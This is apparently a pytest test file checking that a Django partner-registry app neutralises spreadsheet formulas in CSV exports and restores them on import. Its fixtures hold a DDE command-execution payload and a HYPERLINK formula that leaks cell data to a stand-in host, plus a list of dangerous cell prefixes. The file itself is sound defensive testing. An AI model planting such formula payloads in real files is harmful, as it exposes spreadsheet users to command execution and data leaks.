"""No CSV export hands a spreadsheet a live formula, and imports undo the neutralising."""

from __future__ import annotations

import csv
import io

import pytest

from partners.csvio import export_partners, from_spreadsheet_cell, import_partners
from partners.models import Contact, Organization

pytestmark = pytest.mark.django_db

FORMULA_NAME = "=cmd|' /C calc'!A0"
FORMULA_CONTACT = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Open")'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    cells = _cells(text)
    assert cells
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]


@pytest.fixture
def hostile(world):
    Organization.objects.filter(pk=world.charlie.pk).update(name=FORMULA_NAME)
    Contact.objects.create(organization=world.alpha, name="", email="it@alpha.example")
    Contact.objects.filter(email="it@alpha.example").update(name=FORMULA_CONTACT)
    return world


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_it_neutralises_formulas_in_the_registry_export(client, hostile) -> None:
    client.force_login(hostile.personas.staff)
    response = client.get("/registry/export.csv")
    text = response.content.decode() if not response.streaming else _body(response)
    _assert_no_formula(text)
    assert "'" + FORMULA_NAME in _cells(text)


def test_it_neutralises_formulas_in_the_organization_and_matrix_exports(client, hostile) -> None:
    client.force_login(hostile.personas.staff)
    organizations = _body(client.get("/orgs.csv"))
    _assert_no_formula(organizations)
    assert "'" + FORMULA_NAME in _cells(organizations)
    matrix = _body(client.get("/matrix.csv"))
    _assert_no_formula(matrix)
    assert "'" + FORMULA_NAME in _cells(matrix)


def test_it_round_trips_neutralised_cells_losslessly(hostile) -> None:
    Organization.objects.filter(pk=hostile.alpha.pk).update(name="'=already quoted")
    first = io.StringIO()
    export_partners(first)
    _assert_no_formula(first.getvalue())
    before = sorted(Organization.objects.values_list("name", flat=True))
    contacts_before = sorted(Contact.objects.values_list("name", "email"))
    Organization.objects.all().delete()
    report = import_partners(io.StringIO(first.getvalue()))
    assert report.ok, report.errors
    assert sorted(Organization.objects.values_list("name", flat=True)) == before
    assert sorted(Contact.objects.values_list("name", "email")) == contacts_before
    again = io.StringIO()
    export_partners(again)
    assert again.getvalue() == first.getvalue()


@pytest.mark.parametrize(
    "value", ["=1+1", "'=1+1", "''@x", "-3", "\tx", "plain", "'plain", "O'Brien", ""]
)
def test_it_undoes_exactly_what_export_did(value: str) -> None:
    from partners.csvio import spreadsheet_cell

    assert from_spreadsheet_cell(str(spreadsheet_cell(value))) == value


def _command_csv(name: str) -> str:
    from django.core.management import call_command

    out = io.StringIO()
    call_command(name, "--format", "csv", stdout=out)
    return out.getvalue()


def test_it_neutralises_formulas_in_every_command_export(hostile) -> None:
    """Names come from members; HELO names and TLS reporters from anyone on the internet."""
    from datetime import timedelta

    from django.utils import timezone

    from monitoring.evidence.models import ReceivedMessage, TlsReport, TlsReportPolicy

    now = timezone.now()
    ReceivedMessage.objects.create(
        organization=hostile.alpha,
        received_at=now,
        client_ip="192.0.2.50",
        helo=FORMULA_CONTACT,
        spf_result="none",
        dkim_result="none",
    )
    report = TlsReport.objects.create(
        organization_name=FORMULA_NAME,
        report_id="r1",
        contact_info="+1 555 0100",
        start_at=now - timedelta(days=1),
        end_at=now,
        channel="file",
        received_at=now,
    )
    TlsReportPolicy.objects.create(
        report=report,
        domain=hostile.alpha.domains.get(),
        policy_type="no-policy-found",
        successful=1,
        failed=0,
    )
    expected = {
        "export_pairs": "'" + FORMULA_NAME,
        "export_status": "'" + FORMULA_NAME,
        "export_outbound": "'" + FORMULA_CONTACT,
        "export_tlsrpt": "'" + FORMULA_NAME,
    }
    for command, neutralised in expected.items():
        text = _command_csv(command)
        _assert_no_formula(text)
        assert neutralised in _cells(text), command
